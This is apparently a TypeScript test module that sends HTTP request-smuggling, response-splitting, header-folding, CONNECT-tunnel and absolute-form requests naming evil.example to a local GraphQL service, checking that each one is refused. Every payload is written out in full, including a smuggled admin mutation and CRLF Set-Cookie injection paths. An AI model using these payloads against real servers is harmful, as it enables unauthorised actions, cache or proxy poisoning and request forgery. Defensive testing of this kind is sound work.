import type { Attack, Try } from '../attack.ts';
import { servedToAdmin } from '../everywhere.ts';
import type { AccessStand } from '../stand.ts';

const SMUGGLING = 'CWE-444 request smuggling; RFC 9112 11.2';
/** What is smuggled: it would show in the state of the recovery, and in a second answer. */
const HIDDEN_QUERY = JSON.stringify({ query: 'mutation { pauseRecovery(paused: true) { paused } }' });
const QUERY = JSON.stringify({ query: '{ daemon { pid } }' });

interface Shape {
  readonly name: string;
  readonly source?: string;
  readonly refused?: string;
  readonly bytes: (stand: AccessStand) => readonly string[];
}

/** A request of an admin, with those lines in its head and that behind it. */
function posted(stand: AccessStand, lines: readonly string[], body: string): string {
  const head = [
    'POST /graphql HTTP/1.1',
    `Host: ${stand.local}`,
    `Authorization: Bearer ${stand.secrets.admin}`,
    'Content-Type: application/json',
    ...lines,
  ];
  return `${head.join('\r\n')}\r\n\r\n${body}`;
}

/** One that nobody asked for, with the credential that whoever smuggles it does not have: the reader must not take it. */
function hidden(stand: AccessStand): string {
  return posted(stand, [`Content-Length: ${HIDDEN_QUERY.length}`, 'Connection: close'], HIDDEN_QUERY);
}

const chunk = (text: string) => `${text.length.toString(16)}\r\n${text}\r\n`;

const SHAPES: readonly Shape[] = [
  {
    name: 'gives a length and chunks',
    bytes: (stand) => [
      posted(stand, ['Content-Length: 5', 'Transfer-Encoding: chunked'], `0\r\n\r\n${hidden(stand)}`),
      posted(
        stand,
        ['Transfer-Encoding: chunked', `Content-Length: ${QUERY.length}`],
        `${QUERY}${hidden(stand)}`,
      ),
    ],
  },
  {
    name: 'gives two lengths',
    bytes: (stand) => [
      posted(stand, ['Content-Length: 0', `Content-Length: ${hidden(stand).length}`], hidden(stand)),
      posted(stand, [`Content-Length: ${hidden(stand).length}`, 'Content-Length: 0'], hidden(stand)),
      posted(stand, [`Content-Length: 0, ${hidden(stand).length}`], hidden(stand)),
    ],
  },
  {
    name: 'writes a length that is no number, or more than one',
    bytes: (stand) =>
      ['+5', '-1', '0x5', '5,5', '1e1', '5 5', '', '99999999999999999999', '５'].map((length) =>
        posted(stand, [`Content-Length: ${length}`], hidden(stand)),
      ),
  },
  {
    name: 'writes chunks in a way that only some read',
    bytes: (stand) =>
      [
        'xchunked',
        'chunked, identity',
        'identity, chunked',
        'chunked, chunked',
        '"chunked"',
        'CHUNKED',
        '\tchunked',
        'gzip',
        'chunked;x',
      ].map((coding) =>
        posted(stand, [`Transfer-Encoding: ${coding}`, 'Content-Length: 0'], `0\r\n\r\n${hidden(stand)}`),
      ),
  },
  {
    name: 'sends chunks where a length is asked for',
    source: 'CWE-444; CWE-770',
    bytes: (stand) => [
      posted(stand, ['Transfer-Encoding: chunked', 'Connection: close'], `${chunk(QUERY)}0\r\n\r\n`),
    ],
  },
  {
    name: 'sends a chunk of a size that is none',
    bytes: (stand) =>
      ['-1', 'x', '0x10', 'fffffffffffffffff', '1 0', ''].map((size) =>
        posted(stand, ['Transfer-Encoding: chunked'], `${size}\r\n${hidden(stand)}`),
      ),
  },
  {
    name: 'folds a header',
    bytes: (stand) => [
      posted(
        stand,
        ['X-Folded: a', '\tContent-Length: 0', ` Content-Length: ${HIDDEN_QUERY.length}`],
        HIDDEN_QUERY,
      ),
      posted(stand, ['Transfer-Encoding:', ' chunked'], `0\r\n\r\n${hidden(stand)}`),
    ],
  },
  {
    name: 'puts a blank before a colon or into a name',
    bytes: (stand) => [
      posted(stand, ['Content-Length : 0'], hidden(stand)),
      posted(stand, ['Content Length: 0'], hidden(stand)),
      posted(stand, ['Transfer-Encoding : chunked'], `0\r\n\r\n${hidden(stand)}`),
      posted(stand, [' Content-Length: 0'], hidden(stand)),
      posted(stand, [': x'], hidden(stand)),
    ],
  },
  {
    name: 'ends lines in another way',
    bytes: (stand) => [
      hidden(stand).replaceAll('\r\n', '\n'),
      hidden(stand).replaceAll('\r\n', '\r'),
      posted(stand, [`X: a\nContent-Length: ${HIDDEN_QUERY.length}`], HIDDEN_QUERY),
      posted(stand, [`X: a\rContent-Length: ${HIDDEN_QUERY.length}`], HIDDEN_QUERY),
    ],
  },
  {
    name: 'puts a zero byte into a header',
    bytes: (stand) => [
      posted(stand, ['X: a\0b', `Content-Length: ${HIDDEN_QUERY.length}`], HIDDEN_QUERY),
      posted(stand, [`Content\0Length: ${HIDDEN_QUERY.length}`], HIDDEN_QUERY),
      hidden(stand).replace('Bearer ', 'Bearer \0'),
    ],
  },
  {
    name: 'speaks another version of HTTP',
    bytes: (stand) => [
      'GET /healthz\r\n',
      hidden(stand).replace('HTTP/1.1', 'HTTP/1.0'),
      hidden(stand).replace('HTTP/1.1', 'HTTP/2.0'),
      hidden(stand).replace('HTTP/1.1', 'HTTP/1.1x'),
      hidden(stand).replace('HTTP/1.1', 'http/1.1'),
      'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n',
      'RTSP/1.0 OPTIONS *\r\n\r\n',
      '\u0016\u0003\u0001\u0002\0\u0001\0\u0001\u00fc\u0003\u0003',
    ],
  },
  {
    name: 'writes a first line that two readers read differently',
    bytes: (stand) => [
      hidden(stand).replace('POST /graphql', 'POST\t/graphql'),
      hidden(stand).replace('/graphql HTTP', '/graphql  x HTTP'),
    ],
  },
  {
    name: 'names another machine in the first line',
    source: 'RFC 9112 3.2.2 absolute form; CWE-918',
    bytes: (stand) => [
      hidden(stand).replace('/graphql', 'http://evil.example/graphql'),
      hidden(stand).replace('/graphql', `http://${stand.local}/graphql`),
      hidden(stand).replace('/graphql', 'https://evil.example/graphql'),
      hidden(stand).replace('/graphql', `//${stand.local}/graphql`),
    ],
  },
  {
    name: 'asks for a tunnel',
    source: 'CWE-918 server-side request forgery; CWE-441',
    bytes: (stand) =>
      [`127.0.0.1:${stand.port}`, 'evil.example:443', '/graphql', '*'].map(
        (target) =>
          `CONNECT ${target} HTTP/1.1\r\nHost: ${stand.local}\r\nAuthorization: Bearer ${stand.secrets.admin}\r\n\r\n`,
      ),
  },
  {
    name: 'asks to have its request sent back',
    source: 'CWE-693 cross-site tracing',
    bytes: (stand) => [
      `TRACE / HTTP/1.1\r\nHost: ${stand.local}\r\nAuthorization: Bearer ${stand.secrets.admin}\r\nConnection: close\r\n\r\n`,
    ],
  },
];

export const FRAMING_ATTACKS: readonly Attack[] = [
  ...SHAPES.map(
    ({ name, source = SMUGGLING, refused, bytes }): Attack => ({
      kind: 'framing',
      name,
      source,
      refused: refused ?? 'an error or no answer at all, and no second answer: what is hidden is not done',
      how: {
        tries: (stand) =>
          bytes(stand).map(
            (sent): Try => ({
              what: JSON.stringify(sent.slice(0, 400)),
              sent,
              expected: { status: [0, 400, 404, 405, 413, 415, 421, 501, 504, 505], answers: [0, 1] },
            }),
          ),
        controls: servedToAdmin,
      },
    }),
  ),
  {
    kind: 'framing',
    name: 'goes on with the credential of the request before',
    source: 'CWE-287; credentials of a connection (NTLM, RFC 9112 9.3)',
    refused: 'the second request on the connection gets 401',
    how: {
      tries: (stand) => [
        {
          what: 'two in one go',
          sent: posted(stand, [`Content-Length: ${QUERY.length}`], QUERY) + withoutCredential(stand),
          expected: {
            status: [200, 401],
            answers: [2],
            holds: ({ status, body }) => status === 401 || body.includes('"pid"'),
          },
        },
        {
          what: 'five behind one',
          sent: withoutCredential(stand, 'keep-alive').repeat(4) + withoutCredential(stand),
          expected: { status: 401, code: 'unauthenticated' },
        },
      ],
      controls: (stand) => [
        {
          what: 'the same with a credential each',
          sent: posted(stand, [`Content-Length: ${QUERY.length}`], QUERY).repeat(2),
          expected: { status: 200, answers: [2] },
        },
      ],
    },
  },
  {
    kind: 'framing',
    name: 'writes lines into an answer',
    source: 'CWE-113 response splitting',
    refused: 'no header of the answer comes from the request',
    how: {
      tries: (stand) =>
        [
          '/%0d%0aSet-Cookie:%20evil=1',
          '/login/%0d%0aSet-Cookie:%20evil=1',
          '/graphql?x=%0d%0aX-Evil:%201',
          '/%E5%98%8A%E5%98%8DSet-Cookie:evil',
        ].flatMap((path) =>
          ['GET', 'POST'].map(
            (method): Try => ({
              what: `${method} ${path}`,
              sent: { method, path, headers: [['Host', stand.page]] },
              expected: {
                status: [400, 401, 404, 429],
                holds: ({ headers }) =>
                  !headers.has('x-evil') && headers.get('set-cookie')?.join().includes('evil') !== true,
              },
            }),
          ),
        ),
      controls: servedToAdmin,
    },
  },
];

function withoutCredential(stand: AccessStand, connection = 'close'): string {
  const lines = [
    'POST /graphql HTTP/1.1',
    `Host: ${stand.local}`,
    'Content-Type: application/json',
    `Content-Length: ${HIDDEN_QUERY.length}`,
    `Connection: ${connection}`,
  ];
  return `${lines.join('\r\n')}\r\n\r\n${HIDDEN_QUERY}`;
}
